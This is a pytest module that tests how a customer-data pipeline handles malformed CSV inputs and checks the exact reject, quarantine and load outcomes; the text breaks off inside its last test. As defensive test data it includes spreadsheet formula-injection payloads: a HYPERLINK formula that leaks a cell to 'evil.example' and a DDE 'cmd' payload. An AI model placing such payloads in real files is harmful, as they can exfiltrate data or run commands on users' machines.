"""The bad-input corpus (issue 7 item 5): broken source files and the exact outcome of each.

Every case and the rule behind it is listed in tests/data/bad_inputs/README.md. The outcomes:

* reject: `tiers check` exits 2 and its report names the file (and the line or byte offset
  where one applies); the other files are still checked;
* quarantine: the row goes to quarantine.<source> with its original text, its data row number
  and a reason, and nothing is lost (rows read = loaded + quarantined);
* block: the rows load, but a blocking expectation fails (or a source's quarantined share is
  above its threshold), so `tiers check` exits 1;
* keep: legitimately fine input (extra columns, a BOM, another delimiter) loads correctly.

Most cases run `tiers check` on a small source folder built in tmp_path (no dbt, about a second
each); the quarantine details are read back from `ingest.loader.load_source` on an in-memory
DuckDB; one full pipeline run covers the outcomes only the marts show (an order of an unknown
customer, a far-future order date, formula strings in the published warehouse).
"""

from __future__ import annotations

import csv
import io
import random
import re
import zipfile
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import duckdb
import pytest

from customer_tiers.ingest.loader import load_source
from customer_tiers.ingest.sources import SOURCES
from customer_tiers.orchestration.cli import main
from customer_tiers.orchestration.errors import EXIT_OK
from customer_tiers.orchestration.pipeline import run_pipeline
from tests.conftest import query

LOADED_AT = datetime(2024, 6, 30, 12, 0, tzinfo=UTC)


# --- building the inputs ------------------------------------------------------------------------


def csv_bytes(
    header: Sequence[str],
    rows: Sequence[Sequence[object]],
    *,
    delimiter: str = ",",
    encoding: str = "utf-8",
    eol: str = "\n",
) -> bytes:
    """A CSV file as an export writes it: RFC 4180 quoting only where a value needs it."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator=eol)
    writer.writerow(header)
    writer.writerows(["" if v is None else v for v in row] for row in rows)
    return buffer.getvalue().encode(encoding)


ORDERS_HEADER = ["order_id", "customer_id", "ordered_at", "amount"]
ORDERS_HEADER_LINE = ",".join(ORDERS_HEADER) + "\n"
# The companion orders file of cases about another source (orders.csv is the one required file).
ORDERS_OK = csv_bytes(ORDERS_HEADER, [["o1", "c1", "2024-01-05", "10"]])

ORDERS_ABSENT = (
    "  optional columns absent (left empty): product_id, quantity, cost, channel, store_id"
)
CUSTOMER_OPTIONAL = [c.name for c in SOURCES["customers"].columns if not c.required]


def customers_absent(*present: str) -> str:
    absent = ", ".join(c for c in CUSTOMER_OPTIONAL if c not in present)
    return f"  optional columns absent (left empty): {absent}"


def png_header() -> bytes:
    """The first bytes of a real PNG file: signature and the start of the IHDR chunk."""
    return b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00\x00\x00\x01\x00\x08\x06"


def xlsx_like_zip() -> bytes:
    """A zip archive (an .xlsx is one) holding a CSV, as when a workbook is renamed to .csv."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        info = zipfile.ZipInfo("xl/worksheets/sheet1.xml", date_time=(2024, 1, 1, 0, 0, 0))
        archive.writestr(info, ORDERS_OK * 50)
    return buffer.getvalue()


def random_text_free_bytes() -> bytes:
    """Deterministic random bytes without NUL (so the encoding check, not the NUL check, fires)."""
    return bytes(b for b in random.Random(0).randbytes(4096) if b)


# Inputs whose rows the loader-level tests below read back (some also go through `tiers check`).
MIXED_DATES = csv_bytes(
    ORDERS_HEADER,
    [
        ["o1", "c1", "2024-01-05", "10"],
        ["o2", "c1", "2024/01/06", "10"],
        ["o3", "c1", "20240107", "10"],
        ["o4", "c1", "2024-1-8", "10"],
        ["o5", "c1", "2024-01-09T10:30", "10"],
        ["o6", "c1", "2024/01/10 10:30:15.123", "10"],
    ],
)
UNPARSEABLE_DATES = csv_bytes(
    ORDERS_HEADER,
    [
        ["o1", "c1", "2024-01-05", "10"],
        ["o2", "c1", "05/01/2024", "10"],  # day/month order is ambiguous: never guessed
        ["o3", "c1", "2024-02-30", "10"],  # no such day
        ["o4", "c1", "45292", "10"],  # an Excel serial day number
        ["o5", "c1", "2024-01-05T10:00:00+08:00", "10"],  # an offset would be silently dropped
        ["o6", "c1", "2024年1月5日", "10"],
        ["o7", "c1", "yesterday", "10"],
    ],
)
NAN_AND_INFINITE = csv_bytes(
    ["order_id", "customer_id", "ordered_at", "amount", "quantity", "cost"],
    [
        ["o1", "c1", "2024-01-05", "10", "1", "4"],
        ["o2", "c1", "2024-01-05", "10", "NaN", "4"],
        ["o3", "c1", "2024-01-05", "10", "inf", "4"],
        ["o4", "c1", "2024-01-05", "10", "-Infinity", "4"],
        ["o5", "c1", "2024-01-05", "Infinity", "1", "4"],
        ["o6", "c1", "2024-01-05", "1e20", "1", "4"],  # beyond DECIMAL(18,4)
        ["o7", "c1", "2024-01-05", "10", "1", "nan"],
        ["o8", "c1", "2024-01-05", "10", "1", "1e999"],  # overflows even a DOUBLE
    ],
)
DUPLICATE_CUSTOMERS = csv_bytes(
    ["customer_id", "name", "city"],
    [["c1", "Ann", "Leeds"], ["c2", "Bob", "York"], [" c1 ", "Ann Again", "Hull"]],
)
QUOTED_PRODUCTS = (
    b"product_id,name,category\n"
    b'P1,"Setting Powder, Translucent",makeup\n'
    b'P2,"Lipstick ""Ruby Red""",makeup\n'
    b'P3,"two\nlines, and ""quotes""",misc\n'
    b'P4,"windows\r\nline break",misc\n'
    b'P5,"",misc\n'
)
LONG_TEXT = ('She said "it broke", again,\nand again; ' * 3000)[:99_999] + "."  # 100 kB
LONG_TEXT_FEEDBACK = csv_bytes(
    ["feedback_id", "created_at", "text"],
    [["f1", "2024-01-05", LONG_TEXT], ["f2", "2024-01-06", "short"]],
)
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "=1+1",
]
FORMULA_FEEDBACK = csv_bytes(
    ["feedback_id", "created_at", "text"],
    [[f"f{i}", "2024-01-05", text] for i, text in enumerate(FORMULAS, 1)],
)
LINEAGE_NAMED_EXTRAS = csv_bytes(
    [*ORDERS_HEADER, "_row_number", "_reason", "_source_file"],
    [["o1", "c1", "soon", "10", "99", "mine", "export.xlsx"],
     ["o2", "c1", "2024-01-05", "20", "98", "mine", "export.xlsx"]],
)  # fmt: skip


# --- the `tiers check` table --------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    id: str
    files: dict[str, bytes]
    exit_code: int
    label: str  # the report block asserted: a file name, or a source name when none was found
    block: tuple[str, ...]  # its exact lines; {path} is the file's resolved path
    marks: tuple[Any, ...] = field(default=())
    # The lines are regular expressions: for a message that does not exist yet (xfail cases).
    regex: bool = False


def reject(id: str, files: dict[str, bytes], label: str, message: str) -> Case:
    """Exit 2: the file's block is its name and the one message (also printed on stderr)."""
    return Case(id, files, 2, label, (f"{label}: error", f"  {message}"))


CASES = [
    # --- columns ---
    reject(
        "missing-required-column",
        {"orders.csv": ORDERS_OK, "surveys.csv": b"response_id,nps_score\nr1,9\n"},
        "surveys.csv",
        "{path}: missing required column(s) responded_at (header read as: response_id, nps_score)",
    ),
    Case(
        "extra-columns",
        {
            "orders.csv": csv_bytes(
                [*ORDERS_HEADER, "Coupon Code", "note", ""],
                [["o1", "c1", "2024-01-05", "10", "SUMMER", "hi", ""]],
            )
        },
        0,
        "orders.csv",
        (
            "orders.csv: loaded",
            "  encoding: utf-8",
            "  rows: 1 read, 1 loaded, 0 quarantined",
            ORDERS_ABSENT,
            "  extra columns (ignored): Coupon Code, note, column6",
            "  expectations: N checked, all passed",
        ),
    ),
    # --- empty and near-empty files ---
    reject(
        "empty-file-0-bytes",
        {"orders.csv": ORDERS_OK, "customers.csv": b""},
        "customers.csv",
        "{path}: the file is empty (no header row)",
    ),
    Case(
        "header-only-orders",
        {"orders.csv": ORDERS_HEADER_LINE.encode()},
        1,
        "orders.csv",
        (
            "orders.csv: loaded",
            "  encoding: utf-8",
            "  rows: 0 read, 0 loaded, 0 quarantined",
            ORDERS_ABSENT,
            "  expectations: N checked, 1 failed",
            "    ERROR (blocks): expect_table_row_count_to_be_between: observed 0",
        ),
    ),
    Case(
        "header-only-customers",
        {"orders.csv": ORDERS_OK, "customers.csv": b"customer_id,name\n"},
        0,
        "customers.csv",
        (
            "customers.csv: loaded",
            "  encoding: utf-8",
            "  rows: 0 read, 0 loaded, 0 quarantined",
            customers_absent("name"),
            "  expectations: N checked, all passed",
        ),
    ),
    # --- delimiters ---
    Case(
        "semicolon-delimiter-with-decimal-comma",
        {
            "orders.csv": b"order_id;customer_id;ordered_at;amount\n"
            b"o1;c1;2024-01-05;12.50\no2;c1;2024-01-06;12,50\n"
        },
        0,
        "orders.csv",
        (
            "orders.csv: loaded",
            "  encoding: utf-8",
            "  rows: 2 read, 1 loaded, 1 quarantined",
            "  quarantined share: 1 of 2 rows (50.00%) quarantined, within the threshold 100.00%",
            "  quarantined by reason: unparseable amount 1",
            "    data row 2: amount: cannot parse '12,50' as decimal",
            ORDERS_ABSENT,
            "  expectations: N checked, all passed",
        ),
    ),
    # --- encodings ---
    Case(
        "gbk-orders-with-full-width-yen",
        {
            "orders.csv": csv_bytes(
                [*ORDERS_HEADER, "channel"],
                [
                    ["O1", "客户001", "2024-01-05", "￥10", "门店"],
                    ["O2", "客户002", "2024/01/06", "￥1,280.50", "网店"],
                ],
                encoding="gbk",
            )
        },
        0,
        "orders.csv",
        (
            "orders.csv: loaded",
            "  encoding: gb18030",
            "  rows: 2 read, 1 loaded, 1 quarantined",
            "  quarantined share: 1 of 2 rows (50.00%) quarantined, within the threshold 100.00%",
            "  quarantined by reason: unparseable amount 1",
            "    data row 2: amount: cannot parse '￥1,280.50' as decimal",
            "  optional columns absent (left empty): product_id, quantity, cost, store_id",
            "  expectations: N checked, all passed",
        ),
    ),
    Case(
        "utf8-bom-before-a-quoted-header",
        {
            "orders.csv": ORDERS_OK,
            "customers.csv": '\ufeff"customer_id","city"\n"c1","Leeds"\n'.encode(),
        },
        0,
        "customers.csv",
        (
            "customers.csv: loaded",
            "  encoding: utf-8-sig",
            "  rows: 1 read, 1 loaded, 0 quarantined",
            customers_absent("city"),
            "  expectations: N checked, all passed",
        ),
    ),
    reject(
        "latin-1-file",
        {"orders.csv": (ORDERS_HEADER_LINE + "o1,Café,2024-01-05,10\n").encode("latin-1")},
        "orders.csv",
        "{path}: not valid UTF-8 (byte offset 45) nor GB18030/GBK (byte offset 45); save it as "
        "UTF-8 CSV",
    ),
    reject(
        "utf-16-file",
        {"orders.csv": (ORDERS_HEADER_LINE + "o1,c1,2024-01-05,10\n").encode("utf-16")},
        "orders.csv",
        "{path}: the file is UTF-16; save it as UTF-8 (or GBK) CSV",
    ),
    # --- dates ---
    Case(
        "unparseable-dates",
        {"orders.csv": UNPARSEABLE_DATES},
        0,
        "orders.csv",
        (
            "orders.csv: loaded",
            "  encoding: utf-8",
            "  rows: 7 read, 1 loaded, 6 quarantined",
            "  quarantined share: 6 of 7 rows (85.71%) quarantined, within the threshold 100.00%",
            "  quarantined by reason: unparseable ordered_at 6",
            "    data row 2: ordered_at: cannot parse '05/01/2024' as timestamp",
            "    data row 3: ordered_at: cannot parse '2024-02-30' as timestamp",
            "    data row 4: ordered_at: cannot parse '45292' as timestamp",
            "    data row 5: ordered_at: cannot parse '2024-01-05T10:00:00+08:00' as timestamp",
            "    data row 6: ordered_at: cannot parse '2024年1月5日' as timestamp",
            ORDERS_ABSENT,
            "  expectations: N checked, all passed",
        ),
    ),
    Case(
        "far-future-and-far-past-dates",
        {
            "orders.csv": csv_bytes(
                ORDERS_HEADER,
                [
                    ["o1", "c1", "2024-01-05", "10"],
                    ["o2", "c1", "2150-01-01", "10"],
                    ["o3", "c1", "9999-12-31", "10"],
                    ["o4", "c1", "1899-12-31", "10"],
                ],
            )
        },
        0,
        "orders.csv",
        (
            "orders.csv: loaded",
            "  encoding: utf-8",
            "  rows: 4 read, 1 loaded, 3 quarantined",
            "  quarantined share: 3 of 4 rows (75.00%) quarantined, within the threshold 100.00%",
            "  quarantined by reason: far-future ordered_at 2, out-of-range ordered_at 1",
            "    data row 2: ordered_at: '2150-01-01' is more than 365 days after the other dates "
            "(their main body ends 2024-01-05)",
            "    data row 3: ordered_at: '9999-12-31' is more than 365 days after the other dates "
            "(their main body ends 2024-01-05)",
            "    data row 4: ordered_at: '1899-12-31' is before 1990-01-01",
            ORDERS_ABSENT,
            "  expectations: N checked, all passed",
        ),
    ),
    # --- numbers ---
    Case(
        "negative-quantity",
        {
            "orders.csv": csv_bytes(
                [*ORDERS_HEADER, "quantity"],
                [
                    ["o1", "c1", "2024-01-05", "20", "2"],
                    ["o2", "c1", "2024-01-06", "-10", "-1"],  # a return
                    ["o3", "c1", "2024-01-07", "5", "-20000"],
                ],
            )
        },
        0,
        "orders.csv",
        (
            "orders.csv: loaded",
            "  encoding: utf-8",
            "  rows: 3 read, 3 loaded, 0 quarantined",
            "  optional columns absent (left empty): product_id, cost, channel, store_id",
            "  expectations: N checked, 1 failed",
            "    warning (reported): expect_column_values_to_be_between on quantity, 1 unexpected: "
            "1 of 3 non-null values unexpected (33.33%); e.g. ['-20000.0']",
        ),
    ),
    Case(
        "nan-and-infinite-numbers",
        {"orders.csv": NAN_AND_INFINITE},
        0,
        "orders.csv",
        (
            "orders.csv: loaded",
            "  encoding: utf-8",
            "  rows: 8 read, 1 loaded, 7 quarantined",
            "  quarantined share: 7 of 8 rows (87.50%) quarantined, within the threshold 100.00%",
            "  quarantined by reason: unparseable quantity 3, unparseable amount 2, "
            "unparseable cost 2",
            "    data row 2: quantity: cannot parse 'NaN' as double",
            "    data row 3: quantity: cannot parse 'inf' as double",
            "    data row 4: quantity: cannot parse '-Infinity' as double",
            "    data row 5: amount: cannot parse 'Infinity' as decimal",
            "    data row 6: amount: cannot parse '1e20' as decimal",
            "  optional columns absent (left empty): product_id, channel, store_id",
            "  expectations: N checked, all passed",
        ),
    ),
    Case(
        "nps-11-and-minus-1-csat-0",
        {
            "orders.csv": ORDERS_OK,
            "surveys.csv": csv_bytes(
                ["response_id", "responded_at", "nps_score", "csat_score"],
                [
                    ["r1", "2024-01-05", "11", "3"],
                    ["r2", "2024-01-05", "-1", "0"],
                    ["r3", "2024-01-05", "10", "5"],
                    ["r4", "2024-01-05", "7.5", "1"],
                ],
            ),
        },
        0,
        "surveys.csv",
        (
            "surveys.csv: loaded",
            "  encoding: utf-8",
            "  rows: 4 read, 1 loaded, 3 quarantined",
            "  quarantined share: 3 of 4 rows (75.00%) quarantined, within the threshold 100.00%",
            "  quarantined by reason: out-of-range nps_score 2, unparseable nps_score 1",
            "    data row 1: nps_score: '11' is above the maximum 10",
            "    data row 2: nps_score: '-1' is below the minimum 0; csat_score: '0' is below the "
            "minimum 1",
            "    data row 4: nps_score: cannot parse '7.5' as integer",
            "  optional columns absent (left empty): customer_id, repurchase_intent, recommend, "
            "comment",
            "  expectations: N checked, all passed",
        ),
    ),
    # --- keys and references ---
    Case(
        "duplicate-keys",
        {"orders.csv": ORDERS_OK, "customers.csv": DUPLICATE_CUSTOMERS},
        0,
        "customers.csv",
        (
            "customers.csv: loaded",
            "  encoding: utf-8",
            "  rows: 3 read, 2 loaded, 1 quarantined",
            "  quarantined share: 1 of 3 rows (33.33%) quarantined, within the threshold 100.00%",
            "  quarantined by reason: duplicate customer_id 1",
            "    data row 3: duplicate customer_id (first at row 1)",
            customers_absent("name", "city"),
            "  expectations: N checked, all passed",
        ),
    ),
    Case(
        "order-of-an-unknown-customer",  # derived with an empty profile: see the pipeline run
        {
            "orders.csv": csv_bytes(
                ORDERS_HEADER,
                [["o1", "c1", "2024-01-05", "10"], ["o2", "ghost", "2024-01-06", "10"]],
            ),
            "customers.csv": b"customer_id\nc1\n",
        },
        0,
        "orders.csv",
        (
            "orders.csv: loaded",
            "  encoding: utf-8",
            "  rows: 2 read, 2 loaded, 0 quarantined",
            ORDERS_ABSENT,
            "  expectations: N checked, all passed",
        ),
    ),
    # --- field contents ---
    # --- file shapes ---
    reject(
        "truncated-last-line",
        {"orders.csv": (ORDERS_HEADER_LINE + "o1,c1,2024-01-05,10\no2,c1,2024-0").encode()},
        "orders.csv",
        # A short file: the sniffer gives up, and the re-read with the header's delimiter names
        # the line (a file line, header included) behind the "missing columns".
        "{path}: missing required column(s) order_id, customer_id, ordered_at, amount (header "
        "read as: order_id,customer_id,ordered_at,amount); rows cannot be split into columns "
        "with delimiter ',': Invalid Input Error: CSV Error on Line: 3 | Original Line: "
        "o2,c1,2024-0 | Expected Number of Columns: 4 Found: 3",
    ),
    reject(
        "truncated-last-line-after-the-sniffer-sample",
        {
            "orders.csv": (
                ORDERS_HEADER_LINE
                + "".join(f"o{i},c{i},2024-01-05,{i}\n" for i in range(30_000))
                + "o_last,c1,2024-0"
            ).encode()
        },
        "orders.csv",
        "{path}: cannot read the file: Invalid Input Error: CSV Error on Line: 30002 | Original "
        "Line: o_last,c1,2024-0 | Expected Number of Columns: 4 Found: 3",
    ),
    reject(
        "truncated-inside-a-quoted-field",
        {"orders.csv": (ORDERS_HEADER_LINE + 'o1,c1,2024-01-05,10\no2,"c1').encode()},
        "orders.csv",
        "{path}: missing required column(s) order_id, customer_id, ordered_at, amount (header "
        "read as: order_id,customer_id,ordered_at,amount); rows cannot be split into columns "
        "with delimiter ',': Invalid Input Error: CSV Error on Line: 3 | Original Line: "
        'o2,"c1 | Value with unterminated quote found.',
    ),
    reject(
        "title-line-above-the-header",
        {
            "orders.csv": (
                "Orders export June 2024\n" + ORDERS_HEADER_LINE + "o1,c1,2024-01-05,10\n"
            ).encode()
        },
        "orders.csv",
        "{path}: missing required column(s) order_id, customer_id, ordered_at, amount (header "
        "read as: Orders export June 2024)",
    ),
    reject(
        "excel-sep-hint-line",
        {"orders.csv": b"sep=;\norder_id;customer_id;ordered_at;amount\no1;c1;2024-01-05;10\n"},
        "orders.csv",
        "{path}: missing required column(s) order_id, customer_id, ordered_at, amount (header "
        "read as: sep=;); rows cannot be split into columns with delimiter ';': Invalid Input "
        "Error: CSV Error on Line: 2 | Original Line: order_id;customer_id;ordered_at;amount | "
        "Expected Number of Columns: 2 Found: 3",
    ),
    # --- not CSV at all ---
    reject(
        "png-image",
        {"orders.csv": png_header()},
        "orders.csv",
        "{path}: not a text file (NUL byte at byte offset 8)",
    ),
    reject(
        "xlsx-renamed-to-csv",
        {"orders.csv": xlsx_like_zip()},
        "orders.csv",
        "{path}: not a text file (NUL byte at byte offset 5)",
    ),
    reject(
        "random-bytes",
        {"orders.csv": random_text_free_bytes()},
        "orders.csv",
        "{path}: not valid UTF-8 (byte offset 0) nor GB18030/GBK (byte offset 0); save it as "
        "UTF-8 CSV",
    ),
    # --- found by the corpus and fixed: mixed encodings, mixed line ends, an overlong line ---
    Case(
        "utf8-file-with-one-gbk-line",
        {
            "orders.csv": (ORDERS_HEADER_LINE + "o1,张伟,2024-01-05,10\n").encode()
            + "o2,李娜,2024-01-06,10\n".encode("gbk")
        },
        2,
        "orders.csv",
        ("orders\\.csv: error", "  {path}: .*UTF-8.*byte offset 66.*"),
        regex=True,
    ),
    Case(
        "mixed-lf-and-crlf-line-endings",
        {
            "orders.csv": (
                ORDERS_HEADER_LINE + "o1,c1,2024-01-05,10\r\no2,c1,2024-01-06,5\r\n"
            ).encode()
        },
        0,
        "orders.csv",
        (
            "orders.csv: loaded",
            "  encoding: utf-8",
            "  rows: 2 read, 2 loaded, 0 quarantined",
            ORDERS_ABSENT,
            "  expectations: N checked, all passed",
        ),
    ),
    Case(
        "3-mb-text-field",
        {
            "orders.csv": ORDERS_OK,
            "feedback.csv": csv_bytes(
                ["feedback_id", "created_at", "text"],
                [["f1", "2024-01-05", "ok"], ["f2", "2024-01-06", "x" * 3_000_000]],
            ),
        },
        2,
        "feedback.csv",
        ("feedback\\.csv: error", "  {path}: .*(Line: 3|line 3|data row 2).*maximum line size.*"),
        regex=True,
    ),
]


def report_block(out: str, label: str) -> list[str]:
    """The report lines of one file, the number of expectations checked left out (suites grow)."""
    lines = out.splitlines()
    start = next(i for i, line in enumerate(lines) if line.startswith(f"{label}:"))
    end = lines.index("", start)
    return [re.sub(r"expectations: \d+ checked", "expectations: N checked", x)
            for x in lines[start:end]]  # fmt: skip


ROWS_LINE = re.compile(r"  rows: ([\d,]+) read, ([\d,]+) loaded, ([\d,]+) quarantined")


def assert_nothing_lost(out: str) -> None:
    """rows read = loaded + quarantined, for every file of the report."""
    for read, loaded, quarantined in ROWS_LINE.findall(out):
        n = [int(x.replace(",", "")) for x in (read, loaded, quarantined)]
        assert n[0] == n[1] + n[2], out


VERDICTS = {
    0: "verdict: OK (exit 0)",
    1: "verdict: BLOCKED by failed expectations in {label} (exit 1)",
    2: "verdict: UNUSABLE INPUT in {label} (exit 2)",
}


# The corpus is about what happens to each row; in files this small a single bad row is a
# share of 25-50%, above every default threshold, so the cases run with thresholds of 100% (the
# share gate itself: tests/e2e/test_quarantine_policy.py).
NO_SHARE_GATE = "quality:\n  max_quarantined_share:\n" + "".join(
    f"    {source}: 1.0\n" for source in SOURCES
)


def no_share_gate(directory: Path) -> Path:
    """A configuration whose quarantined-share thresholds are all 100%."""
    path = directory / "no-share-gate.yml"
    path.write_text(NO_SHARE_GATE, encoding="utf-8")
    return path


@pytest.mark.parametrize(
    "case", [pytest.param(c, id=c.id, marks=c.marks) for c in CASES]
)  # fmt: skip
def test_bad_input(
    case: Case, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TIERS_CONFIG", str(no_share_gate(tmp_path)))
    sources = tmp_path / "sources"
    sources.mkdir()
    for name, content in case.files.items():
        (sources / name).write_bytes(content)

    code = main(["check", "--sources", str(sources)])
    out, err = capsys.readouterr()

    path = str(sources.resolve() / case.label)
    block = report_block(out, case.label)
    if case.regex:
        expected = [line.replace("{path}", re.escape(path)) for line in case.block]
        assert len(block) == len(expected), block
        for line, pattern in zip(block, expected, strict=True):
            assert re.fullmatch(pattern, line, flags=re.IGNORECASE), line
    else:
        expected = [line.replace("{path}", path) for line in case.block]
        assert block == expected
    assert code == case.exit_code
    assert out.splitlines()[-1].startswith(VERDICTS[case.exit_code].format(label=case.label))
    if case.exit_code == 2:
        assert f"error: {block[1].strip()}" in err.splitlines()
    assert_nothing_lost(out)
    # The check changed nothing: the sources are exactly the files written.
    assert {p.name: p.read_bytes() for p in sources.iterdir()} == case.files


def test_corpus_has_at_least_twenty_cases() -> None:
    ids = [c.id for c in CASES] + [c.id for c in LOAD_CASES]
    assert len(ids) >= 20
    assert len(set(ids)) == len(ids)


# --- what quarantine keeps, read back from the loader -------------------------------------------


@pytest.fixture
def con() -> Iterator[duckdb.DuckDBPyConnection]:
    connection = duckdb.connect()
    yield connection
    connection.close()


def load(
    con: duckdb.DuckDBPyConnection, directory: Path, source: str, content: bytes
) -> tuple[int, int, int]:
    directory.mkdir(exist_ok=True)
    (directory / f"{source}.csv").write_bytes(content)
    result = load_source(con, SOURCES[source], directory, "bad-inputs", LOADED_AT)
    counts = (result.rows_read, result.rows_loaded, result.rows_quarantined)
    assert counts[0] == counts[1] + counts[2]
    return counts


def rows(con: duckdb.DuckDBPyConnection, sql: str) -> list[tuple[Any, ...]]:
    return con.execute(sql).fetchall()


@dataclass(frozen=True)
class LoadCase:
    """A case whose outcome is which rows land where; the verdict adds nothing (exit 0)."""

    id: str
    source: str
    content: bytes
    counts: tuple[int, int, int]  # read, loaded, quarantined
    columns: str  # raw columns compared with `raw`
    raw: list[tuple[Any, ...]]
    quarantine: list[tuple[int, str]] = field(default_factory=list)  # _row_number, _reason


LOAD_CASES = [
    LoadCase(
        "tab-delimiter-with-commas-in-values",
        "customers",
        csv_bytes(
            ["customer_id", "name", "city"],
            [["c1", "Smith, John", "Leeds, UK"], ["c2", "Doe, Jane", "York"]],
            delimiter="\t",
        ),
        (2, 2, 0),
        "customer_id, city",
        [("c1", "Leeds, UK"), ("c2", "York")],
    ),
    LoadCase(
        "duplicate-order-lines-are-kept",  # order lines have no key: a repeat may be a real line
        "orders",
        csv_bytes(ORDERS_HEADER, [["o1", "c1", "2024-01-05", "10"]] * 2),
        (2, 2, 0),
        "order_id, _row_number",
        [("o1", 1), ("o1", 2)],
    ),
    LoadCase(
        "no-newline-after-last-line",
        "orders",
        (ORDERS_HEADER_LINE + "o1,c1,2024-01-05,10\no2,c1,2024-01-06,5").encode(),
        (2, 2, 0),
        "order_id, amount",
        [("o1", Decimal("10.0000")), ("o2", Decimal("5.0000"))],
    ),
    LoadCase(
        "blank-lines-between-rows",  # not rows: neither read nor numbered
        "orders",
        (ORDERS_HEADER_LINE + "o1,c1,2024-01-05,10\n\n\no2,c1,2024-01-06,5\n").encode(),
        (2, 2, 0),
        "order_id, _row_number",
        [("o1", 1), ("o2", 2)],
    ),
    LoadCase(
        "totals-line-at-the-end",
        "orders",
        (ORDERS_HEADER_LINE + "o1,c1,2024-01-05,10\nTotal,,,10\n").encode(),
        (2, 1, 1),
        "order_id, _row_number",
        [("o1", 1)],
        [(2, "missing required value: customer_id; missing required value: ordered_at")],
    ),
    LoadCase(
        "two-exports-concatenated",  # the second header is a data row that parses as nothing
        "orders",
        (
            ORDERS_HEADER_LINE
            + "o1,c1,2024-01-05,10\n"
            + ORDERS_HEADER_LINE
            + "o2,c1,2024-01-06,5\n"
        ).encode(),
        (3, 2, 1),
        "order_id, _row_number",
        [("o1", 1), ("o2", 3)],
        [
            (
                2,
                "ordered_at: cannot parse 'ordered_at' as timestamp; "
                "amount: cannot parse 'amount' as decimal",
            )
        ],
    ),
    LoadCase(
        "formula-strings-in-number-columns",
        "orders",
        csv_bytes(
            ORDERS_HEADER,
            [
                ["o1", "c1", "2024-01-05", "+5"],
                ["o2", "c1", "2024-01-05", "=1+1"],
                ["o3", "c1", "2024-01-05", "@10"],
            ],
        ),
        (3, 1, 2),
        "order_id, amount",
        [("o1", Decimal("5.0000"))],
        [
            (2, "amount: cannot parse '=1+1' as decimal"),
            (3, "amount: cannot parse '@10' as decimal"),
        ],
    ),
]


@pytest.mark.parametrize("case", [pytest.param(c, id=c.id) for c in LOAD_CASES])
def test_bad_rows(case: LoadCase, con: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    assert load(con, tmp_path / "s", case.source, case.content) == case.counts
    assert rows(con, f"SELECT {case.columns} FROM raw.{case.source}") == case.raw
    assert (
        rows(con, f"SELECT _row_number, _reason FROM quarantine.{case.source}") == case.quarantine
    )


def test_mixed_date_formats_load_as_the_same_calendar(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    assert load(con, tmp_path / "s", "orders", MIXED_DATES) == (6, 6, 0)
    assert rows(con, "SELECT order_id, ordered_at, _row_number FROM raw.orders") == [
        ("o1", datetime(2024, 1, 5), 1),
        ("o2", datetime(2024, 1, 6), 2),
        ("o3", datetime(2024, 1, 7), 3),
        ("o4", datetime(2024, 1, 8), 4),
        ("o5", datetime(2024, 1, 9, 10, 30), 5),
        ("o6", datetime(2024, 1, 10, 10, 30, 15, 123000), 6),
    ]


def test_unparseable_dates_keep_their_text_row_and_reason(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    assert load(con, tmp_path / "s", "orders", UNPARSEABLE_DATES) == (7, 1, 6)
    assert rows(
        con,
        "SELECT order_id, ordered_at, amount, _row_number, _reason, _reason_category "
        "FROM quarantine.orders",
    ) == [
        (order_id, text, "10", row, f"ordered_at: cannot parse '{text}' as timestamp",
         "unparseable ordered_at")
        for order_id, text, row in [
            ("o2", "05/01/2024", 2), ("o3", "2024-02-30", 3), ("o4", "45292", 4),
            ("o5", "2024-01-05T10:00:00+08:00", 5), ("o6", "2024年1月5日", 6),
            ("o7", "yesterday", 7),
        ]
    ]  # fmt: skip


def test_nan_and_infinite_numbers_keep_their_text_row_and_reason(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    assert load(con, tmp_path / "s", "orders", NAN_AND_INFINITE) == (8, 1, 7)
    assert rows(con, "SELECT order_id, amount, quantity, cost FROM raw.orders") == [
        ("o1", Decimal("10.0000"), 1.0, Decimal("4.0000"))
    ]
    assert rows(
        con, "SELECT _row_number, amount, quantity, cost, _reason FROM quarantine.orders"
    ) == [
        (2, "10", "NaN", "4", "quantity: cannot parse 'NaN' as double"),
        (3, "10", "inf", "4", "quantity: cannot parse 'inf' as double"),
        (4, "10", "-Infinity", "4", "quantity: cannot parse '-Infinity' as double"),
        (5, "Infinity", "1", "4", "amount: cannot parse 'Infinity' as decimal"),
        (6, "1e20", "1", "4", "amount: cannot parse '1e20' as decimal"),
        (7, "10", "1", "nan", "cost: cannot parse 'nan' as decimal"),
        (8, "10", "1", "1e999", "cost: cannot parse '1e999' as decimal"),
    ]


def test_duplicate_key_keeps_the_first_row_even_when_spaced_differently(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    assert load(con, tmp_path / "s", "customers", DUPLICATE_CUSTOMERS) == (3, 2, 1)
    assert rows(con, "SELECT customer_id, city, _row_number FROM raw.customers") == [
        ("c1", "Leeds", 1),
        ("c2", "York", 2),
    ]
    assert rows(
        con, "SELECT customer_id, city, _row_number, _reason FROM quarantine.customers"
    ) == [
        (" c1 ", "Hull", 3, "duplicate customer_id (first at row 1)")  # original text, untrimmed
    ]


def test_quotes_commas_newlines_and_a_100_kb_field_survive_byte_for_byte(
    con: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    assert load(con, tmp_path / "s", "products", QUOTED_PRODUCTS) == (5, 5, 0)
    assert rows(con, "SELECT product_id, name, _row_number FROM raw.products") == [
        ("P1", "Setting Powder, Translucent", 1),
        ("P2", 'Lipstick "Ruby Red"', 2),
        ("P3", 'two\nlines, and "quotes"', 3),
